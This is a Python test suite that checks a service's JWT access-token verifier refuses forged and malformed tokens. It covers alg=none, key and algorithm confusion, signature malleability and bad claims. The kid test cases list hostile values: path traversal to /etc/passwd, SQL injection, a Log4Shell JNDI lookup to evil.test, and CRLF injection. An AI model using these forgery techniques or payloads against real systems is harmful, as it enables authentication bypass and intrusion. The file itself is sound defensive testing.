"""Every forged, bent or borrowed token is refused as unauthenticated, and in no other way."""

import base64
import hashlib
import hmac
import json
import time
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from hypothesis import given, settings
from hypothesis import strategies as st
from joserfc import jws, jwt
from joserfc.jwk import ECKey, Key, OKPKey, RSAKey

from servicekit.access_tokens import AccessTokenVerifier
from servicekit.errors import Unauthenticated
from servicekit.revocations import RevocationList
from testkit.issuer import AUDIENCE, ISSUER, FakeIssuer

P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


class AnyKey:
    """A key source that knows one key by every name, as a careless one would."""

    def __init__(self, key: Key) -> None:
        self.key = key
        self.asked_for: list[str] = []

    async def find(self, key_id: str) -> Key | None:
        self.asked_for.append(key_id)
        return self.key


def verifier(keys: Any) -> AccessTokenVerifier:
    return AccessTokenVerifier(keys, issuer=ISSUER, audience=AUDIENCE)


async def refused(keys: Any, token: str, reason: str = "TOKEN_INVALID") -> None:
    with pytest.raises(Unauthenticated) as caught:
        await verifier(keys).verify(token)
    assert caught.value.code == reason
    assert len(token) < 40 or token not in str(caught.value)


def b64(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode()


def signed(issuer: FakeIssuer, header: str, claims: str) -> str:
    """A token with these very bytes, signed by the issuer itself."""
    signing_input = f"{b64(header.encode())}.{b64(claims.encode('utf-8', 'surrogatepass'))}"
    algorithm = jws.JWSRegistry.algorithms["ES256"]
    return f"{signing_input}.{b64(algorithm.sign(signing_input.encode(), issuer.key))}"


def header_of(issuer: FakeIssuer, **changes: Any) -> str:
    header = {"alg": "ES256", "typ": "at+jwt", "kid": issuer.key.kid} | changes
    return json.dumps({name: value for name, value in header.items() if value is not None})


def claims_of(token: str) -> str:
    part = token.split(".")[1]
    return base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)).decode()


async def test_the_bare_bones_of_these_attacks_would_pass_unbent(issuer: FakeIssuer) -> None:
    token = signed(issuer, header_of(issuer), claims_of(issuer.token("a")))
    assert (await verifier(issuer).verify(token)).scopes == {"a"}


@pytest.mark.parametrize("name", ["none", "None", "NONE", "nOnE", "", None, 0, ["ES256"]])
@pytest.mark.parametrize("signature", ["", "AA"])
async def test_algorithm_none(issuer: FakeIssuer, name: object, signature: str) -> None:
    header = b64(header_of(issuer, alg=name).encode())
    await refused(issuer, f"{header}.{issuer.token().split('.')[1]}.{signature}")


@pytest.mark.parametrize("form", ["pem", "der", "jwk", "thumbprint"])
@pytest.mark.parametrize(("name", "digest"), [("HS256", "sha256"), ("HS512", "sha512")])
@pytest.mark.parametrize("kind", ["EC", "RSA"])
async def test_public_key_as_a_shared_secret(
    issuer: FakeIssuer, form: str, name: str, digest: str, kind: str
) -> None:
    key = issuer.key if kind == "EC" else RSAKey.generate_key(2048)
    secret = {
        "pem": key.as_pem(private=False),
        "der": key.as_der(private=False),
        "jwk": json.dumps(key.as_dict(private=False)).encode(),
        "thumbprint": key.thumbprint().encode(),
    }[form]
    signing_input = f"{b64(header_of(issuer, alg=name).encode())}.{issuer.token().split('.')[1]}"
    mac = hmac.new(secret, signing_input.encode(), getattr(hashlib, digest)).digest()
    await refused(AnyKey(key), f"{signing_input}.{b64(mac)}")


@pytest.mark.parametrize(
    ("algorithm", "key"),
    [
        ("RS256", RSAKey.generate_key(2048)),
        ("PS256", RSAKey.generate_key(2048)),
        ("ES384", ECKey.generate_key("P-384")),
        ("ES512", ECKey.generate_key("P-521")),
        ("EdDSA", OKPKey.generate_key("Ed25519")),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
@pytest.mark.filterwarnings("ignore::joserfc.errors.SecurityWarning")
async def test_another_algorithm_or_curve_with_a_key_that_the_source_vouches_for(
    issuer: FakeIssuer, algorithm: str, key: Key
) -> None:
    claims = json.loads(claims_of(issuer.token()))
    header = json.loads(header_of(issuer, alg=algorithm))
    token = jwt.encode(header, claims, key, algorithms=[algorithm])
    await refused(AnyKey(key), token)
    # And said to be ES256, which that key cannot make.
    _, body, signature = token.split(".")
    await refused(AnyKey(key), f"{b64(header_of(issuer).encode())}.{body}.{signature}")


@pytest.mark.parametrize(
    "typ", [None, "", "JWT", "jwt", "at+JWT", "AT+JWT", "id+jwt", 1, ["at+jwt"]]
)
async def test_another_type_of_token(issuer: FakeIssuer, typ: object) -> None:
    await refused(issuer, signed(issuer, header_of(issuer, typ=typ), claims_of(issuer.token())))


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null",
        "/etc/passwd",
        "' OR '1'='1",
        "x'; DROP TABLE keys; --",
        "${jndi:ldap://evil.test/a}",
        "{{7*7}}",
        "a\r\nX-Injected: 1",
        "a\u0000b",
        "ключ",
        "\u202e",
        "k" * 129,
        "k" * 4000,
        "",
        None,
        1,
        True,
        ["k"],
        {"k": 1},
    ],
)
async def test_nobody_is_asked_for_a_key_with_a_strange_name(
    issuer: FakeIssuer, kid: object
) -> None:
    keys = AnyKey(issuer.key)
    await refused(keys, signed(issuer, header_of(issuer, kid=kid), claims_of(issuer.token())))
    assert keys.asked_for == []


@pytest.mark.parametrize("name", ["jwk", "jku", "x5u", "x5c", "crit", "b64", "zip", "enc"])
async def test_header_that_brings_its_own_key_or_asks_for_extensions(
    issuer: FakeIssuer, name: str
) -> None:
    own = ECKey.generate_key("P-256")
    value = {
        "jwk": own.as_dict(private=False),
        "jku": "https://evil.test/jwks",
        "x5u": "https://evil.test/chain",
        "x5c": ["MIIB"],
        "crit": ["exp"],
        "b64": False,
    }.get(name, "DEF")
    token = signed(issuer, header_of(issuer, **{name: value}), claims_of(issuer.token()))
    await refused(issuer, token)


@pytest.mark.parametrize(
    "claims",
    [
        {"iss": ISSUER + "/"},
        {"iss": ISSUER.upper()},
        {"iss": [ISSUER]},
        {"aud": AUDIENCE + " "},
        {"aud": [["weir"]]},
        {"aud": {"weir": 1}},
        {"aud": []},
        {"iat": None},
        {"iat": "0"},
        {"iat": -1},
        {"nbf": "now"},
        {"nbf": time.time() + 86_400},
        {"iat": time.time() + 86_400, "exp": time.time() + 87_000},
        {"exp": 10**400},
        {"exp": -(10**400)},
        {"iat": -(10**400)},
        {"exp": True},
        {"exp": time.time() + 86_400},
        {"iat": 0},
        {"jti": ""},
        {"jti": 1},
        {"client_id": "a\nb"},
        {"client_id": "a" * 257},
        {"tenant": "\ud800"},
        {"tenant": "\u0000"},
        {"scope": "a\tb"},
        {"scope": 1},
    ],
    ids=str,
)
async def test_claims_that_nobody_may_write(issuer: FakeIssuer, claims: dict[str, Any]) -> None:
    content = json.loads(claims_of(issuer.token())) | claims
    content = {name: value for name, value in content.items() if value is not None}
    await refused(issuer, signed(issuer, header_of(issuer), json.dumps(content)))


@pytest.mark.parametrize(
    "claims",
    [
        '{"exp":1e999,"iat":1e999}',
        '{"exp":NaN,"iat":NaN}',
        '{"exp":Infinity,"iat":0}',
        "[]",
        "null",
        '"text"',
        "1",
        "{}",
        "",
        "{",
        "\ufeff{}",
        "[" * 3000,
        '{"a":' * 1000 + "1" + "}" * 1000,
        '{"exp":' + "9" * 5000 + "}",
    ],
    ids=lambda text: text[:12],
)
async def test_claims_that_are_no_json_object_of_ours(issuer: FakeIssuer, claims: str) -> None:
    await refused(issuer, signed(issuer, header_of(issuer), claims))


async def test_names_twice(issuer: FakeIssuer) -> None:
    claims, header = claims_of(issuer.token()), header_of(issuer)
    await refused(issuer, signed(issuer, header, claims[:-1] + ',"client_id":"admin"}'))
    await refused(issuer, signed(issuer, header, claims[:-1] + ',"more":{"a":1,"a":2}}'))
    await refused(issuer, signed(issuer, header[:-1] + ',"alg":"none"}', claims))


async def test_signature_of_another_length_or_form(issuer: FakeIssuer) -> None:
    head, body, signature = issuer.token().split(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    r, s = int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")
    for bent in (
        raw[:-1],
        raw + b"\0",
        b"\0" + raw,
        raw[:32],
        bytes(64),
        b"\xff" * 64,
        raw[:32] + bytes(32),
        encode_dss_signature(r, s),
        r.to_bytes(32, "big") + P256_ORDER.to_bytes(32, "big"),
        raw[32:] + raw[:32],
        bytes(1000),
    ):
        await refused(issuer, f"{head}.{body}.{b64(bent)}")


async def test_the_twin_of_a_signature_does_not_escape_a_revocation(issuer: FakeIssuer) -> None:
    token = issuer.token(jti="t-1")
    head, body, signature = token.split(".")
    raw = base64.urlsafe_b64decode(signature + "==")
    twin = raw[:32] + (P256_ORDER - int.from_bytes(raw[32:], "big")).to_bytes(32, "big")
    subject = AccessTokenVerifier(
        issuer, issuer=ISSUER, audience=AUDIENCE, revocations=(revocations := RevocationList())
    )
    await subject.verify(token)
    revocations._tokens.add("t-1")
    for one in (token, f"{head}.{body}.{b64(twin)}"):
        with pytest.raises(Unauthenticated) as caught:
            await subject.verify(one)
        assert caught.value.code == "TOKEN_REVOKED"


async def test_other_spellings_of_base64(issuer: FakeIssuer) -> None:
    token = issuer.token()
    head, body, signature = token.split(".")
    last = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    # 64 bytes leave four bits of the last character without a meaning.
    other = signature[:-1] + last[last.index(signature[-1]) + 1]
    for bent in (
        f"{head}.{body}.{other}",
        f"{token}=",
        f"{token}==",
        f"{head}=.{body}.{signature}",
        f"{token}\n",
        f" {token}",
        f"{head}\n.{body}.{signature}",
        f"{head}..{signature}",
        f"{head}.{body}",
        f"{token}.",
        f".{token}",
        f"{token}.{signature}",
        f"{head}.{body}.{signature[:-2]}+/",
        f"{head}.{body}.{signature}é",
        f"{head}.{body}.{signature}\x00",
        token + "A" * 8192,
    ):
        await refused(issuer, bent)


async def test_parts_of_two_good_tokens(issuer: FakeIssuer) -> None:
    one, other = issuer.token("a").split("."), issuer.token("a", "b").split(".")
    await refused(issuer, ".".join([one[0], other[1], one[2]]))


@given(cut=st.integers(0, 700), char=st.characters(), replace=st.booleans())
@settings(max_examples=60, deadline=None)
async def test_no_bent_token_passes_or_breaks_anything(
    issuer: FakeIssuer, cut: int, char: str, replace: bool
) -> None:
    token = issuer.token()
    at = cut % len(token)
    bent = token[:at] + char + token[at + 1 :] if replace else token[:at]
    if bent != token:
        await refused(issuer, bent)


async def test_expired_token_has_its_own_reason(issuer: FakeIssuer) -> None:
    await refused(issuer, issuer.token(exp=int(time.time()) - 10), "TOKEN_EXPIRED")
